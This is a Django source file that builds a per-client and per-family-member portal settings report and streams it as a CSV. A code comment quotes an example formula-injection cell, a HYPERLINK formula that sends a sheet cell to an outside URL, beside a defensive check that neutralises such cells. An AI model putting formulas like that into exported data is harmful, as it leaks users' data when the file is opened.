"""The Portal settings report: every active client x every section, with value and source, and
under each client their family members (every link not removed), with the family chain's.

The CSV costs one query for the practice's two columns, one for the clients (with their
group's and their own settings) and one for the family members (with their own settings and
their client's group's family column), whatever their number. Client rows stream as they are
resolved; the family members' rows are read first, grouped by client, since a practice has far
fewer of them than clients. Resolution is a pure function of the values it is given, so the
CSV resolves each distinct combination once: a practice has far fewer combinations than
people.
"""

import csv
import json
import unicodedata
import zoneinfo
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass

from django.utils import timezone

from clients.models import Client, FamilyLink
from portal_settings.models import Level, PortalSettings
from portal_settings.resolver import (
    BULK_RELATED,
    FAMILY_BUILT_IN,
    EffectiveSettings,
    Sources,
    effective_settings_for_family_link,
    family_links_with_settings,
    organization_defaults,
    resolve,
    resolve_loaded,
)
from portal_settings.sections import SECTIONS

CLIENT_AUDIENCE = "Client"
FAMILY_AUDIENCE = "Family member"


def active_clients(*, organization, group=None):
    clients = organization.clients.active()
    if group is not None:
        clients = clients.filter(group=group)
    return clients.order_by("user__last_name", "user__first_name", "pk")


def _family_links(clients):
    """The family members of these clients that the report lists: all but removed links."""
    return FamilyLink.objects.filter(client__in=clients).exclude(status=FamilyLink.Status.REMOVED)


@dataclass(frozen=True)
class ReportRow:
    """One row of the report page: a client (link None) or one of their family members."""

    client: Client
    effective: EffectiveSettings
    link: FamilyLink | None = None

    @property
    def audience(self) -> str:
        return FAMILY_AUDIENCE if self.link is not None else CLIENT_AUDIENCE


def report_rows(*, organization, clients) -> list[ReportRow]:
    """The page's rows: each client of the queryset, then their family members."""
    defaults = organization_defaults([organization.pk]).get(organization.pk, {})
    clients = list(clients.select_related("user", *BULK_RELATED))
    family = defaultdict(list)
    links = (
        family_links_with_settings()
        .filter(client_id__in=[client.pk for client in clients])
        .exclude(status=FamilyLink.Status.REMOVED)
        .order_by("user__last_name", "user__first_name", "pk")
    )
    for link in links:
        family[link.client_id].append(link)
    rows = []
    for client in clients:
        rows.append(ReportRow(client, resolve_loaded(client, defaults)))
        rows += [
            ReportRow(client, effective_settings_for_family_link(link=link), link)
            for link in family[client.pk]
        ]
    return rows


class _Echo:
    def write(self, value):
        return value


# A spreadsheet runs a cell that starts with one of these as a formula (a name such as
# =HYPERLINK("http://...?d="&B3,"Click") would leak the sheet when clicked). OWASP's rule:
# prefix such a cell with a single quote, so it is shown as the text it is.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet may run `text`: it starts with a tab or a carriage return, or its
    first character after any blanks (spaces of every kind, line breaks, invisible characters
    such as a zero-width space, which some spreadsheets trim) is = + - or @, in any of their
    forms (the fullwidth equals sign, U+FF1D, is read as = in some locales)."""
    if text.startswith(FORMULA_STARTS):
        return True
    for char in text:
        if char.isspace() or unicodedata.category(char) == "Cf":
            continue
        return unicodedata.normalize("NFKC", char).startswith(FORMULA_STARTS)
    return False


def csv_safe(value) -> str:
    text = str(value)
    return "'" + text if _runs_as_formula(text) else text


def _row(writer, cells) -> str:
    return writer.writerow([csv_safe(cell) for cell in cells])


def csv_header() -> list[str]:
    header = ["Client", "Email", "Group", "Audience", "Family member", "Relationship"]
    header.append("Family access")
    for section in SECTIONS:
        header += [section.label, f"{section.label}: source"]
    return header


def _cells(effective: EffectiveSettings) -> list[str]:
    """Each section's level in the product's words ("View only") and where it comes from."""
    return [value for r in effective.values() for value in (r.access.label, r.label)]


def _dated_key(schedule) -> str:
    return json.dumps(schedule, sort_keys=True) if schedule else ""


def _resolved(
    cache: dict,
    *,
    group_id,
    group_name,
    group_values,
    own_values,
    defaults,
    family,
    now,
    group_schedule=None,
    own_schedule=None,
):
    """The section cells for one combination of values (and dated values), resolved once per
    combination, all at one moment `now`."""
    key = (
        family,
        group_id,
        tuple(sorted((group_values or {}).items())),
        tuple(sorted((own_values or {}).items())),
        _dated_key(group_schedule),
        _dated_key(own_schedule),
    )
    cells = cache.get(key)
    if cells is None:
        sources = Sources(
            organization=defaults,
            group=(group_values or {}) if group_id else None,
            group_name=group_name or "",
            client=own_values or {},
            group_schedule=(group_schedule or {}) if group_id else None,
            client_schedule=own_schedule or {},
            now=now,
        )
        if family:
            effective = resolve(sources, upto=Level.FAMILY, builtin=FAMILY_BUILT_IN)
        else:
            effective = resolve(sources)
        cells = cache[key] = _cells(effective)
    return cells


def _family_csv_rows(*, clients, family_defaults, cache, now) -> dict[int, list[list[str]]]:
    """Client id -> the CSV rows of their family members (one query)."""
    relationships = dict(FamilyLink.Relationship.choices)
    statuses = dict(FamilyLink.Status.choices)
    links = (
        _family_links(clients.order_by().values("pk"))
        .order_by("user__last_name", "user__first_name", "pk")
        .values_list(
            "client_id",
            "user__first_name",
            "user__last_name",
            "user__email",
            "relationship",
            "status",
            "client__group_id",
            "client__group__name",
            "client__group__portal_settings__family_values",
            "portal_settings__values",
            "portal_settings__schedule",
        )
    )
    rows = defaultdict(list)
    for (
        client_id,
        first,
        last,
        email,
        relationship,
        status,
        group_id,
        group_name,
        group_values,
        own_values,
        own_schedule,
    ) in links.iterator(chunk_size=2000):
        cells = _resolved(
            cache,
            group_id=group_id,
            group_name=group_name,
            group_values=group_values,
            own_values=own_values,
            defaults=family_defaults,
            family=True,
            now=now,
            own_schedule=own_schedule,  # a family column has no dated values
        )
        person = f"{first} {last}".strip()
        rows[client_id].append(
            [
                email,
                group_name or "",
                FAMILY_AUDIENCE,
                person,
                relationships.get(relationship, relationship),
                statuses.get(status, status),
                *cells,
            ]
        )
    return rows


def csv_lines(*, organization, clients) -> Iterator[str]:
    # Streamed after the request's middleware has ended, so the practice's time zone (dated
    # values' "until Dec 5") is activated here for as long as the rows are written.
    with timezone.override(zoneinfo.ZoneInfo(organization.time_zone)):
        yield from _csv_lines(organization=organization, clients=clients)


def _csv_lines(*, organization, clients) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield _row(writer, csv_header())
    defaults, family_defaults = (
        PortalSettings.objects.filter(organization=organization)
        .values_list("values", "family_values")
        .first()
    ) or ({}, {})
    cache: dict = {}
    now = timezone.now()  # one moment for the whole file, so dated values read consistently
    family = _family_csv_rows(
        clients=clients, family_defaults=family_defaults, cache=cache, now=now
    )
    rows = clients.values_list(
        "pk",
        "user__last_name",
        "user__first_name",
        "user__email",
        "group_id",
        "group__name",
        "group__portal_settings__values",
        "portal_settings__values",
        "group__portal_settings__schedule",
        "portal_settings__schedule",
    )
    for (
        pk,
        last,
        first,
        email,
        group_id,
        group_name,
        group_values,
        own_values,
        group_schedule,
        own_schedule,
    ) in rows.iterator(chunk_size=2000):
        cells = _resolved(
            cache,
            group_id=group_id,
            group_name=group_name,
            group_values=group_values,
            own_values=own_values,
            defaults=defaults,
            family=False,
            now=now,
            group_schedule=group_schedule,
            own_schedule=own_schedule,
        )
        name = f"{last}, {first}"
        yield _row(writer, [name, email, group_name or "", CLIENT_AUDIENCE, "", "", "", *cells])
        for family_row in family.get(pk, ()):
            yield _row(writer, [name, *family_row])
